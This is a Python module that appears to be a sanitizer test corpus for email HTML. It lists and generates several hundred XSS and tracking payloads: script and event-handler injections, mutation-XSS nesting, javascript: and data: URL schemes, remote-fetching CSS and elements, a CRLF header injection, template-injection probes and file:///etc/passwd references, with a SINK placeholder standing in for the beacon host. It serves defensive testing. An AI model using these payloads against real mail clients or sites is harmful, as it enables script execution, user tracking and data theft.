"""Markup that people have tried to get past mail programs, with `SINK` where it would phone home.

Kinds: plain scripts, handlers, foreign elements (SVG, MathML), mutation through odd nesting,
styles that fetch, links that act, forms, frames, metadata, and breaking out of our own markup.
"""

from __future__ import annotations

RUN = "document.title='ran';new Image().src='SINK/run'"

PAYLOADS = (
    f"<script>{RUN}</script>",
    '<script src="SINK/a.js"></script>',
    "<ScRiPt/x>alert(1)</sCrIpT  >",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    f'<img src=x onerror="{RUN}">',
    '<img src="SINK/i.gif">',
    '<img srcset="SINK/i.gif 1x, SINK/j.gif 2x" src="data:,">',
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x:gif" onerror="alert(1)" title="a>b">',
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\'>',
    '<img src="cid:../../etc/passwd"><img src="cid:page@acme">',
    "<svg onload=alert(1)>",
    '<svg><script xlink:href="SINK/s.js"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/><a id=x><text y=20>x</text></a></svg>',
    '<svg><image href="SINK/svg.png"/><use href="SINK/u.svg#x"/></svg>',
    '<svg><foreignObject><iframe src="SINK/f"></iframe></foreignObject></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)><textarea>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img src='</noembed><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<table><td background='SINK/t.png'>x</td></table>",
    "<body background='SINK/b.png' onload=alert(1)>",
    '<div style="background:url(SINK/bg.png)">x</div>',
    '<div style="background-image:u\\72l(SINK/bg2.png)">x</div>',
    '<div style="list-style:url(SINK/l.png)">x</div>',
    "<p style=\"color:red;content:url('SINK/c.png')\">x</p>",
    '<p style="width:expression(alert(1));behavior:url(SINK/x.htc)">x</p>',
    '<p style="position:fixed;inset:0;z-index:99999;background:#fff">cover</p>',
    '<style>@import "SINK/i.css"; body{background:url(SINK/s.png)}</style>',
    "<style>p::before{content:url(SINK/pc.png)}</style><p>x</p>",
    '<link rel=stylesheet href="SINK/l.css">',
    '<link rel=prefetch href="SINK/p"><link rel=dns-prefetch href="//sink.invalid"><link rel=preload as=image href="SINK/pl">',
    '<meta http-equiv=refresh content="0;url=SINK/r">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<base href="SINK/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="SINK/f"></iframe><frame src="SINK/g">',
    '<object data="SINK/o.swf"><param name=x></object><embed src="SINK/e.swf">',
    '<video src="SINK/v.mp4" poster="SINK/v.png" onerror=alert(1) autoplay></video>',
    '<audio src="SINK/a.mp3" onloadstart=alert(1)></audio><track src="SINK/t.vtt">',
    '<input type=image src="SINK/in.png" onfocus=alert(1) autofocus>',
    '<form action="SINK/post" method=post><button id=go>Go</button></form><script>go.click()</script>',
    '<button formaction="javascript:alert(1)" autofocus onfocus=alert(1)>x</button>',
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a><a href="java\tscript:alert(1)">y</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a><a href="//sink.invalid/x" ping="SINK/ping">y</a>',
    '<a href="/quarantine/retry" target=_top>x</a><a href="../accounts">y</a>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<custom-tag onclick=alert(1) style='animation:x' onanimationstart=alert(1)>x</custom-tag>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</textarea></title></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<ÿscript>alert(1)</ÿscript>",
    "\u202e<script>\u202calert(1)</script>\u2066",
    "<div hx-get='SINK/hx' hx-trigger=load data-live='SINK/live' id=rows popover>x</div>",
    "<p id=said class=row>clobber</p><img name=getElementById><form id=keys></form>",
)

# --- The same ideas, turned in every way ------------------------------------------------------------

_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "onchange", "onsubmit",
    "ontoggle", "onanimationstart", "onanimationend", "ontransitionend", "onpointerenter", "onwheel",
    "onscroll", "onbeforeinput", "oncopy", "onpaste", "ondrag", "onbegin", "onend", "onrepeat", "onpageshow",
    "onhashchange", "onpopstate", "onmessage", "onunload", "onbeforeunload", "onresize", "oncuechange",
    "onbeforetoggle", "oncontentvisibilityautostatechange", "onfocusin", "onscrollend", "onsecuritypolicyviolation",
)  # fmt: skip
_ELEMENTS = (
    "div",
    "img src=x",
    "svg",
    "details open",
    "input autofocus",
    "video src=x",
    "a href=#",
    "x tabindex=1",
)
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java&Tab;script:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml;utf8,<svg onload=alert(1)>",
    "vbscript:x", "view-source:SINK/v", "blob:SINK/b", "filesystem:SINK/f", "file:///etc/passwd", "about:blank#x",
    "feed:javascript:alert(1)", "//sink.invalid/p", "\\\\sink.invalid\\p", "http:SINK", "jar:SINK!/x",
)  # fmt: skip
_HOLDERS = (
    '<a href="{}">x</a>', '<a target=_top href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>', '<img src="{}">', '<svg><a href="{}"><text>x</text></a></svg>', '<area href="{}">',
    '<math href="{}">x</math>', '<base href="{}">', '<meta http-equiv=refresh content="0; url={}">',
)  # fmt: skip
_STYLES = (
    "background:url(SINK/1)", "background:URL('SINK/2')", "background:\\75rl(SINK/3)", "background-image:image-set('SINK/4' 1x)",
    "background:-webkit-image-set(url(SINK/5) 1x)", "list-style-image:url(SINK/6)", "cursor:url(SINK/7),auto", "content:url(SINK/8)",
    "border-image:url(SINK/9) 1", "mask:url(SINK/10)", "filter:url(SINK/11#x)", "clip-path:url(SINK/12#x)", "shape-outside:url(SINK/13)",
    "offset-path:url(SINK/14#x)", "background:/**/url(SINK/15)", "background:u/**/rl(SINK/16)", "--x:url(SINK/17);background:var(--x)",
    "font:12px 'x';src:url(SINK/18)", "-moz-binding:url(SINK/19)", "behavior:url(SINK/20)", "width:calc(1px + expression(alert(1)))",
    "position:fixed;top:0;left:0;width:100vw;height:100vh", "position:absolute;inset:0;z-index:2147483647", "color:red;}body{background:url(SINK/21)",
    "background:cross-fade(url(SINK/22),url(SINK/23),50%)", "background:element(#x)", "background:paint(x)", "transition:all 1s;animation:x 1s",
)  # fmt: skip
_FETCHERS = (
    "<img src=SINK/a>", "<img srcset='SINK/b 2x'>", "<img loading=eager lowsrc=SINK/c dynsrc=SINK/d>", "<picture><source srcset=SINK/e><img></picture>",
    "<link rel=icon href=SINK/f>", "<link rel=manifest href=SINK/g>", "<link rel=modulepreload href=SINK/h>", "<link rel=preconnect href=SINK>",
    "<link rel=stylesheet media=print href=SINK/i onload=this.media='all'>", "<table background=SINK/j><tr background=SINK/k><td>x</table>",
    "<body background=SINK/l>", "<video poster=SINK/m></video>", "<audio autoplay src=SINK/n></audio>", "<source src=SINK/o><track src=SINK/p default>",
    "<embed src=SINK/q>", "<object data=SINK/r></object>", "<applet code=SINK/s></applet>", "<frameset><frame src=SINK/t></frameset>",
    "<bgsound src=SINK/u>", "<layer src=SINK/v></layer>", "<ilayer src=SINK/w></ilayer>", "<input type=image src=SINK/x>",
    "<svg><image xlink:href=SINK/y /></svg>", "<svg><feImage href=SINK/z /></svg>", "<svg><use href=SINK/aa#x /></svg>",
    "<svg><style>@import 'SINK/ab';</style></svg>", "<style>@font-face{font-family:x;src:url(SINK/ac)}*{font-family:x}</style>",
    "<style>@import url(SINK/ad);</style>", "<?xml-stylesheet href='SINK/ae'?><p>x", "<!DOCTYPE html SYSTEM 'SINK/af'><p>x",
    "<portal src=SINK/ag></portal>", "<fencedframe src=SINK/ah></fencedframe>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"SINK/ai\"]}]}</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"SINK/aj\"}}</script>", "<script nomodule src=SINK/ak></script>", "<script type=module>import 'SINK/al'</script>",
    "<a href=SINK/am attributionsrc=SINK/an>x</a>", "<img attributionsrc=SINK/ao>", "<a ping=SINK/ap href=#>x</a>", "<blockquote cite=SINK/aq>x</blockquote>",
)  # fmt: skip
_CONFUSERS = (
    "\u202etxt.exe\u202c", "\u2066\u2067\u2068x\u2069", "a\u0000b\u0007c\u001bd", "\ufeff\u200b\u200d\u2060", "\U000e0001\U000e0041\U000e007f", "x" * 3000,
    "a\u0300" * 200, "\ud7ff\ue000\uffff", "<b" * 100, "</" * 100, "&" * 500, "\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
)  # fmt: skip

MORE = tuple(dict.fromkeys((
    *(f"<{_ELEMENTS[n % len(_ELEMENTS)]} {one}=\"{RUN}\">x" for n, one in enumerate(_HANDLERS)),
    *(f"<{element} {_HANDLERS[n]}='alert(1)' {_HANDLERS[n].upper()}=alert(1)>" for n, element in enumerate(_ELEMENTS)),
    *(_HOLDERS[(n + turn) % len(_HOLDERS)].format(one) for n, one in enumerate(_SCHEMES) for turn in (0, 3, 7, 10)),
    *(f'<p style="{one}">x</p>' for one in _STYLES),
    *(f"<div><table><tr><td style='{one}'>x</td></tr></table></div>" for one in _STYLES[::2]),
    *_FETCHERS,
    *(f"<noscript>{one}</noscript><template>{one}</template><!--[if true]>{one}<![endif]-->" for one in _FETCHERS[::3]),
    *(f"{one}<img src=x onerror=alert(1)>" for one in _CONFUSERS),
)))  # fmt: skip
"""Made from the lists above: with `PAYLOADS` more than three hundred."""
